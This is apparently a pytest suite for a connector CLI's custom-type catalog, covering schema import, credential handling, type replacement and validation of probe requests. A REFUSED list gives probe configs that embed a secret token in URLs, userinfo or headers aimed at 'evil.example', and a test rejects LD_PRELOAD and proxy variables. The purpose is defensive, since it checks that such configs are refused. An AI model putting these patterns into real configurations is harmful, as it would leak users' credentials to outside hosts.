"""Custom types, from a catalog entry or any JSON Schema."""

import json
import sqlite3
import time
from contextlib import closing
from pathlib import Path

import pytest

SCHEMA = {
    "type": "object",
    "properties": {
        "host": {"type": "string"},
        "token": {"type": "string", "airbyte_secret": True},
    },
    "required": ["host", "token"],
}


@pytest.fixture
def schema(tmp_path: Path) -> str:
    path = tmp_path / "warehouse.json"
    path.write_text(json.dumps({"connectionSpecification": SCHEMA}))
    return str(path)


def add(run, schema: str):
    return run("catalog", "add", schema, "--key", "warehouse", "--json")


def test_schema_is_split_into_settings_and_credentials(run, schema):
    added = json.loads(add(run, schema).out)
    assert (added["config_fields"], added["auth_fields"]) == (["host"], ["token"])


def test_custom_type_is_installed_like_any_other(run, schema, monkeypatch):
    monkeypatch.setenv("TOKEN", "canary")
    add(run, schema)
    line = ("install", "warehouse", "--set", "host=db", "--secret", "token=env:TOKEN")
    assert run(*line).code == 0
    assert run("get", "warehouse", "token", "--reveal").out == "canary\n"


def test_custom_type_is_suggested_for_a_typo(run, schema):
    add(run, schema)
    for line in (("install", "warehose"), ("list", "--type", "warehose")):
        done = run(*line)
        assert (done.code, "did you mean warehouse?" in done.err) == (5, True)
    assert run("list", "--type", "warehouse", "-o", "names").code == 0


def test_adding_the_same_twice_changes_nothing(run, schema):
    add(run, schema)
    assert json.loads(add(run, schema).out)["change"] == "unchanged"


def test_schema_without_a_key_is_a_usage_error(run, schema):
    done = run("catalog", "add", schema)
    assert (done.code, "--key" in done.err) == (2, True)


def test_type_in_use_is_not_removed(run, schema, monkeypatch):
    monkeypatch.setenv("TOKEN", "canary")
    add(run, schema)
    run("install", "warehouse", "--set", "host=db", "--secret", "token=env:TOKEN")
    assert run("catalog", "remove", "warehouse").code == 6
    run("remove", "warehouse", "--purge", "--yes")
    assert run("catalog", "remove", "warehouse").code == 0
    assert run("catalog", "show", "warehouse").code == 5


def test_built_in_type_is_neither_replaced_nor_removed(run, schema):
    assert run("catalog", "add", schema, "--key", "medium").code == 6
    run("init")
    assert run("catalog", "remove", "medium").code == 6


def test_lint_names_every_problem_of_a_file(run, schema):
    done = run("catalog", "lint", schema, "--json")
    assert done.code == 3
    assert json.loads(done.out)["error_count"] >= 5


def test_remote_reference_is_refused(run, tmp_path):
    path = tmp_path / "remote.json"
    path.write_text(json.dumps({"properties": {"a": {"$ref": "http://127.0.0.1:1/x"}}}))
    done = run("catalog", "add", str(path), "--key", "remote")
    assert (done.code, "Traceback" in done.err) == (3, False)


def test_credential_with_unprintable_name_is_refused(run, tmp_path):
    path = tmp_path / "odd.json"
    secret = {"type": "string", "writeOnly": True}
    path.write_text(json.dumps({"type": "object", "properties": {"a\nb": secret}}))
    run("catalog", "add", str(path), "--key", "odd")
    values = tmp_path / "values.json"
    values.write_text(json.dumps({"auth": {"a\nb": {"env": "HOME"}}}))
    assert run("install", "odd", "--from-file", str(values)).code == 3
    assert json.loads(run("list", "--json").out) == []


def entry_with(tmp_path: Path, **probe) -> str:
    found = {
        "protocol": "https",
        "method": "GET",
        "url": "https://api.example/me",
        "send": {"as": "bearer", "value": "{auth.token}"},
        "expect_status": 200,
        "identity": {},
    }
    secret = {"type": "string", "writeOnly": True}
    path = tmp_path / "evil.json"
    entry = {
        "key": "evil",
        "name": "Evil",
        "auth_type": "api_key",
        "config_schema": {"type": "object", "properties": {"url": {"type": "string"}}},
        "auth_schema": {
            "type": "object",
            "properties": {"token": secret, "hook": {**secret, "format": "uri"}},
        },
        "probe": {**found, **probe},
    }
    path.write_text(json.dumps(entry))
    return str(path)


STEP = {"method": "GET", "url": "https://api.example/me"}
REFUSED = [
    {"url": "https://{auth.token}.evil.example/"},
    {"url": "https://evil.example:{auth.token}"},
    {"url": "{config.url}{auth.token}/"},
    {"url": "{auth.token}"},
    {"url": "{auth.hook}.evil.example/"},
    {"steps": [{**STEP, "url": "https://{auth.token}@evil.example"}]},
    {"method": "DELETE"},
    {"method": "POST"},
    {"steps": [{**STEP, "method": "PUT"}]},
    {"steps": [{**STEP, "method": "POST"}]},
    {"steps": [STEP] * 6},
    {"headers": {"Host": "evil.example"}},
    {"steps": [{**STEP, "headers": {"transfer-encoding": "chunked"}}]},
    {"send": {"as": "header", "name": "Content-Length", "value": "{auth.token}"}},
]


@pytest.mark.parametrize("probe", REFUSED)
def test_request_that_harms_or_tells_a_credential_is_refused(run, tmp_path, probe):
    file = entry_with(tmp_path, **probe)
    assert run("catalog", "lint", file).code == 3
    assert run("catalog", "add", file).code == 3


@pytest.mark.parametrize(
    "probe",
    [
        {},
        {"url": "{auth.hook}"},
        {"url": "{auth.hook}/status"},
        {"url": "{config.url}/bot{auth.token}/me"},
        {"method": "POST", "note": "GraphQL queries are sent by POST."},
    ],
)
def test_harmless_request_is_accepted(run, tmp_path, probe):
    assert run("catalog", "add", entry_with(tmp_path, **probe)).code == 0


@pytest.mark.parametrize("nested", [False, True])
def test_type_of_too_many_fields_is_refused_at_once(run, tmp_path, nested):
    fields = {f"field_{n}": {"type": "string"} for n in range(20_000)}
    inner = {"inner": {"type": "object", "properties": fields}}
    path = tmp_path / "huge.json"
    path.write_text(json.dumps({"type": "object", "properties": inner if nested else fields}))
    started = time.monotonic()
    done = run("catalog", "add", str(path), "--key", "huge")
    assert (done.code, "at most 1000" in done.err) == (3, True)
    assert run("catalog", "add", str(path), "--key", "wordpress").code == 6
    assert time.monotonic() - started < 10


def test_contradiction_is_reported_when_a_type_is_added(run, tmp_path):
    path = tmp_path / "odd.json"
    schema = {"type": "object", "properties": {"n": {"minLength": 5, "maxLength": 3}}}
    path.write_text(json.dumps(schema))
    done = run("catalog", "add", str(path), "--key", "odd")
    assert done.code == 0
    assert "config: properties.n.minLength allows no value: minLength 5 is above" in done.err


@pytest.mark.parametrize(
    ("variable", "words"),
    [
        ("LD_PRELOAD", "other programs act on"),
        ("https_proxy", "other programs act on"),
        ("CMS_PRELOAD", "other programs act on"),
        ("TOKEN", "must begin with the type's key: CMS_"),
        ("cms_token", "must begin with the type's key: CMS_"),
        ("CMS_TOKEN=1", "not a valid variable name"),
        ("CMS_SECRET", None),
    ],
)
def test_type_names_variables_that_begin_with_its_key(run, tmp_path, monkeypatch, variable, words):
    monkeypatch.setenv("TOKEN", "canary-token")
    secret = {"type": "string", "writeOnly": True, "x-env": variable}
    entry = {
        "key": "cms",
        "name": "CMS",
        "description": "A content management system.",
        "auth_type": "api_key",
        "config_schema": {"type": "object", "properties": {}, "additionalProperties": False},
        "auth_schema": {"type": "object", "properties": {"token": secret}},
    }
    file = tmp_path / "cms.json"
    file.write_text(json.dumps(entry))
    added = run("catalog", "add", str(file))
    if words is not None:
        assert (added.code, words in added.err) == (3, True), added.err
        assert run("catalog", "show", "cms").code == 5
        return
    assert added.code == 0, added.err
    assert run("install", "cms", "--secret", "token=env:TOKEN").code == 0
    found = json.loads(run("env", "cms", "--format", "json").out)
    assert found == {variable: "canary-token", "CONNECTOR_TOKEN": "canary-token"}


@pytest.fixture
def corrected(run, tmp_path, monkeypatch):
    """Install two connectors of a type, remove a third, and replace the type by a changed one."""
    monkeypatch.setenv("TOKEN", "canary-token")
    kind = {
        "key": "box",
        "name": "Box",
        "auth_type": "api_key",
        "category": "Web",
        "config_schema": {
            "type": "object",
            "properties": {
                "url": {"type": "string", "format": "uri"},
                "text": {"type": "string"},
            },
            "additionalProperties": False,
        },
        "auth_schema": {
            "type": "object",
            "properties": {
                "user": {"type": "string"},
                "token": {"type": "string", "writeOnly": True},
                "login": {
                    "type": "object",
                    "properties": {"key": {"type": "string", "writeOnly": True}},
                },
            },
            "required": ["token"],
        },
        "probe": {
            "protocol": "https",
            "method": "GET",
            "url": "{config.url}/me",
            "expect_status": 200,
            "send": {"as": "bearer", "value": "{auth.token}"},
            "identity": {"id": "id", "label": "name"},
        },
    }
    path = tmp_path / "box.json"
    path.write_text(json.dumps(kind))
    assert run("catalog", "add", path).code == 0
    for name in ("a", "b", "gone"):
        sets = ("--set", "url=https://one.example", "--set", f"text={name}")
        secrets = ("--secret", "token=env:TOKEN", "--secret", "login.key=env:TOKEN")
        assert run("install", "box", "--name", name, *sets, *secrets).code == 0
    assert run("remove", "gone").code == 0

    def replaced(change, *line):
        other = json.loads(json.dumps(kind))
        change(other)
        path.write_text(json.dumps(other))
        return run("catalog", "add", path, *line)

    return replaced


def titled(kind):
    kind["config_schema"]["properties"]["text"]["title"] = "Text of the box"
    kind["config_schema"]["properties"]["size"] = {"type": "integer", "default": 3}


def test_a_type_in_use_is_corrected(run, corrected):
    assert corrected(titled).code == 6
    planned = json.loads(corrected(titled, "--replace", "--dry-run", "--json").out)
    assert (planned["change"], planned["dry_run"]) == ("replaced", True)
    assert "size" not in run("catalog", "schema", "box").out
    done = json.loads(corrected(titled, "--replace", "--json").out)
    assert (done["change"], done["connectors"]) == ("replaced", 3)
    assert done["changes"] == ["+ size", "~ text"]
    assert run("restore", "gone").code == 0
    for name in ("a", "b", "gone"):
        assert run("get", name, "token", "--reveal").out == "canary-token\n"
        assert run("get", name, "size").out == "3\n"
        assert run("edit", name, "--set", "size=4").code == 0
    assert run("validate", "--all").code == 0
    assert run("log", "--verify").code == 0
    assert run("doctor").code == 0
    assert json.loads(corrected(titled, "--replace", "--json").out)["change"] == "unchanged"


def without_text(kind):
    del kind["config_schema"]["properties"]["text"]


def with_another_field(kind):
    kind["auth_schema"]["properties"]["pem"] = {"type": "string", "writeOnly": True}
    kind["auth_schema"]["required"].append("pem")


def with_a_plain_member(kind):
    del kind["auth_schema"]["properties"]["login"]["properties"]["key"]["writeOnly"]


def with_a_setting(kind):
    kind["auth_schema"]["properties"].pop("login")
    kind["config_schema"]["properties"]["login"] = {"type": "object"}


def with_another_host(kind):
    kind["probe"]["url"] = "https://two.example/me"


@pytest.mark.parametrize(
    ("change", "code", "said"),
    [
        (without_text, 3, ["does not fit a, b; nothing was changed", "a.text", "b.text"]),
        (with_another_field, 3, ["a.pem: is required", "make new fields optional"]),
        (with_a_plain_member, 6, ["login would not be a secret any more"]),
        (with_a_setting, 6, ["login would not be a secret any more"]),
        (with_another_host, 2, ["credentials of a, b would be sent to https://two.example"]),
    ],
)
def test_a_correction_that_does_not_fit_changes_nothing(run, corrected, change, code, said):
    before = run("catalog", "schema", "box").out
    done = corrected(change, "--replace")
    assert done.code == code, done.err
    assert all(text in done.err for text in said), done.err
    assert "canary" not in done.err
    assert run("catalog", "schema", "box").out == before
    assert run("get", "a", "token", "--reveal").out == "canary-token\n"
    assert run("log", "--verify").code == 0


def test_another_host_is_agreed_to(run, corrected):
    assert corrected(with_another_host, "--replace", "--yes").code == 0
    assert run("get", "a", "token", "--reveal").out == "canary-token\n"


def test_a_connector_that_was_altered_stops_a_correction(run, corrected, settings):
    path = settings.store.removeprefix("sqlite:///")
    with closing(sqlite3.connect(path)) as db, db:
        db.execute("UPDATE connectors SET config = '{}' WHERE name = 'b'")
    assert corrected(titled, "--replace").code == 7
    assert "size" not in run("catalog", "schema", "box").out


def test_what_uses_a_type_is_named(run, corrected):
    done = run("catalog", "remove", "box")
    assert done.code == 6
    assert "used by a, b, gone (removed, but restorable)" in done.err
    assert "connectors remove a --purge" in done.err


def test_an_unknown_type_is_added_by_a_replacement(run, schema):
    done = run("catalog", "add", schema, "--key", "warehouse", "--replace", "--json")
    assert json.loads(done.out)["change"] == "added"
